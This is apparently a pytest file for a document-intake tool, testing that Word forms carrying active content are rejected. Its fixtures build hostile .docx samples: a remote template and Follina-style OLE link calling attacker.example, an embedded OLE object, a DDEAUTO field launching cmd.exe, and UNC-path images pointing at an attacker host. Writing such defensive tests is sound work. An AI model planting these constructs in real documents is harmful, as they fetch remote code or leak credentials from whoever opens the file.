"""Issue 16, point 6: documents that act when opened later are refused, with the reason.

Each is a genuine filled form plus one active part: a remote template, an external OLE object
(Follina-style), an embedded OLE object, a DDEAUTO field typed into an answer, an image linked by
a UNC path. A typed web address (a hyperlink: acts only when clicked) is still accepted.
"""

from __future__ import annotations

import pytest
from attacks import DOC_RELS, add_relationship, case_and_inbox, in_answer, new_case
from hardening import filled

from dispatch_gen.collect.stage import collect
from dispatch_gen.workspace import open_case

UNIT = "thon-04"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def _rel(rid: str, kind: str, target: str, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{R}/{kind}" Target="{target}"{mode}/>'


def _field(code: str) -> str:
    return (f'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> {code[:3]}'
            f'</w:instrText></w:r><w:r><w:instrText xml:space="preserve">{code[3:]} </w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>')


ACTIVE = {
    "remote-template.docx": (lambda: add_relationship(
        filled(UNIT), "word/_rels/settings.xml.rels",
        _rel("rId99", "attachedTemplate", "https://attacker.example/t.dotm")), "attachedTemplate"),
    "follina.docx": (lambda: add_relationship(
        filled(UNIT), DOC_RELS, _rel("rId99", "oleObject", "mhtml:https://attacker.example/x.html!x")), "OLE"),
    "embedded-ole.docx": (lambda: add_relationship(
        filled(UNIT), DOC_RELS, _rel("rId99", "oleObject", "embeddings/oleObject1.bin", external=False),
        extra={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0 package"}), "OLE"),
    "ddeauto.docx": (lambda: in_answer(UNIT, _field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')),
                     "DDEAUTO"),
    "dde-simple.docx": (lambda: in_answer(UNIT, f'<w:fldSimple xmlns:w="{W}" w:instr=" DDE cmd x"/>'), "DDE"),
    "includepicture.docx": (lambda: in_answer(UNIT, _field('INCLUDEPICTURE "\\\\\\\\host\\\\share\\\\a.png"')),
                            "INCLUDEPICTURE"),
    "unc-image.docx": (lambda: add_relationship(
        filled(UNIT), DOC_RELS, _rel("rId98", "image", "file:///\\\\attacker\\share\\logo.png")), "image"),
}


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    base = tmp_path_factory.mktemp("active")
    case_dir, inbox, _ = case_and_inbox(base, ACTIVE)
    link = add_relationship(filled("thon-02"), DOC_RELS, _rel("rId97", "hyperlink", "https://xaxyz.gov.vn/"))
    (inbox / "hyperlink.docx").write_bytes(link)
    result = collect(open_case(case_dir), [inbox])
    return case_dir, {f.path.name: f for f in result.files}


@pytest.mark.parametrize("name", sorted(ACTIVE))
def test_active_content_is_refused_with_the_reason(run, name):
    _, files = run
    outcome = files[name]
    assert outcome.outcome == "rejected", name
    assert ACTIVE[name][1] in outcome.reason and "\n" not in outcome.reason
    assert outcome.archive is None  # not kept as evidence for a unit: it was never accepted


def test_a_typed_web_address_is_still_accepted(run):
    _, files = run
    assert files["hyperlink.docx"].outcome == "accepted"


def test_hidden_text_is_never_read_as_an_answer(tmp_path):
    """A ``w:vanish`` run inside an answer: Word does not show it, so it is not part of the answer."""
    from attacks import text_field

    from dispatch_gen.store import open_store

    hidden = '<w:r><w:rPr><w:vanish/></w:rPr><w:t> ẨN ĐI</w:t></w:r>'
    case_dir = new_case(tmp_path)
    (tmp_path / "f.docx").write_bytes(in_answer(UNIT, hidden, marker="Hiện rõ"))
    result = collect(open_case(case_dir), [tmp_path / "f.docx"])
    assert result.files[0].outcome == "accepted"
    with open_store(case_dir) as db:
        values = {r["tag"]: r["value"] for r in db.answers_current()}
    assert values[text_field(UNIT)] == "Hiện rõ"
